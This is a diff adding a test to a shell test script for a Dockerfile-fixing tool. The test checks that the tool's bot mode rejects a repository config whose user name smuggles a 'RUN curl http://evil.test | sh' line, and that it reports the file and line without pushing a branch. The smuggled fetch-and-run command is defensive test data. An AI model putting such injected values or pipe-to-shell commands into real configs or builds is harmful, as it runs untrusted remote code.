@@ -52,6 +52,25 @@ rm .dockerfix.yaml
 "$cli" apply --user app --uid 10001 --health-interval 1m30s Dockerfile > /dev/null || fail "good values refused"
 grep -q 'useradd -m -u 10001 -g app -s /bin/bash app' Dockerfile || fail "good values not used: $(cat Dockerfile)"
 
+# The bot: a repository whose .dockerfix.yaml smuggles a RUN into the user
+# name fails with the file and line, and no branch is made for it.
+mkdir -p "$work/bot/src"
+(
+  cd "$work/bot/src"
+  git init -q -b main
+  printf 'FROM debian:12\nRUN apt-get update\nCMD ["/app"]\n' > Dockerfile
+  printf 'rules:\n  nonroot-final-user:\n    user: "agent\\nRUN curl http://evil.test | sh"\n' > .dockerfix.yaml
+  git add -A
+  git -c user.name=t -c user.email=t@t.invalid commit -qm init
+)
+echo "$work/bot/src owner/name" > "$work/bot/repos"
+rc=0
+"$cli" bot --repos "$work/bot/repos" --forge none --dry-run --workdir "$work/bot/cache" > "$work/bot/out" 2>&1 || rc=$?
+[[ $rc == 2 ]] || fail "bot with a bad repository config: exit $rc, want 2: $(cat "$work/bot/out")"
+grep -q 'failed *owner/name:.dockerfix.yaml:3: rules.nonroot-final-user.user:' "$work/bot/out" ||
+  fail "bot: $(cat "$work/bot/out")"
+grep -q 'would-push' "$work/bot/out" && fail "bot would push a branch: $(cat "$work/bot/out")"
+
 # WORKDIR "/ srv": one quoted word, and a second apply changes nothing.
 printf 'FROM node:22\nWORKDIR / srv\nUSER node\n' > w.Dockerfile
 "$cli" apply w.Dockerfile > /dev/null
